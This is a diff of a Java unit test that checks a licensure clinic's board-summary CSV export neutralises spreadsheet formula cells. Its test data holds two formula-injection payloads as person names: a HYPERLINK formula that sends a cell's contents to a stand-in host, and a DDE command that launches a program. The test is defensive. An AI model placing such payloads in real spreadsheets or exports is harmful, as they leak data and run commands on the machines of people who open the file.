@@ -101,8 +101,8 @@ class LicensureModuleTest {
     void theBoardSummaryNeutralisesFormulaCellsWithTheHoursLogsWriter() {
         LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
         clinic.packs.put("clin-2", "us-tx-lpc-associate");
-        clinic.names.put("clin-2", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
-        clinic.names.put("sup-1", "@SUM(1+1)*cmd|' /C calc'!A0, \"Dr\"");
+        clinic.name("clin-2", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
+        clinic.name("sup-1", "@SUM(1+1)*cmd|' /C calc'!A0, \"Dr\"");
         clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-03-02T09:00", 60, Map.of(), "clin-2");
 
         List<List<String>> rows = StrictCsv.parse(clinic.module.licensure().boardCsv(SUP, "clin-2", "sup-1",
